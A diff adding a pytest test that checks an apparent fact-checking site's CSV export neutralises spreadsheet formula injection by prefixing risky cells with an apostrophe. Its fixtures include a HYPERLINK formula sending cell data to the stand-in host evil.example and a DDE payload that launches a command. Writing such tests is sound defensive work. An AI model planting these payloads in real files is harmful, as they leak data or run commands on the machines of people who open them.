@@ -172,6 +172,40 @@ def test_csv_export_follows_the_filters(pokrowsk, make_claim, client):
     assert rows[0]["topics"] == "Krieg"
 
 
+def csv_rows(response):
+    body = b"".join(response.streaming_content).decode("utf-8")
+    return list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
+
+
+def test_csv_cells_that_look_like_formulas_stay_text(
+    make_claim, make_party, make_topic, client
+):
+    formula = '=HYPERLINK("https://evil.example/?d="&A1, "Quelle")'
+    make_claim(
+        statement=formula,
+        claimant=make_party("@SUM(1+1)*cmd|' /C calc'!A0"),
+        topics=[make_topic("+49 Krieg")],
+        status=Status.PUBLISHED,
+    )
+    make_claim(statement="-1 % Wachstum", status=Status.PUBLISHED)
+    make_claim(statement="\tTabulator", status=Status.PUBLISHED)
+    make_claim(statement="Pokrowsk = gefallen?", status=Status.PUBLISHED)
+
+    rows = csv_rows(client.get(reverse("claims:claim_list_csv")))
+
+    by_statement = {row["statement"]: row for row in rows}
+    assert set(by_statement) == {
+        f"'{formula}",
+        "'-1 % Wachstum",
+        "'\tTabulator",
+        "Pokrowsk = gefallen?",
+    }
+    row = by_statement[f"'{formula}"]
+    assert row["claimant"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["topics"] == "'+49 Krieg"
+    assert row["url"].startswith("http://")
+
+
 def test_csv_export_refuses_bad_filters_with_400(db, client):
     response = client.get(reverse("claims:claim_list_csv"), {"made_after": "gestern"})
     assert response.status_code == 400
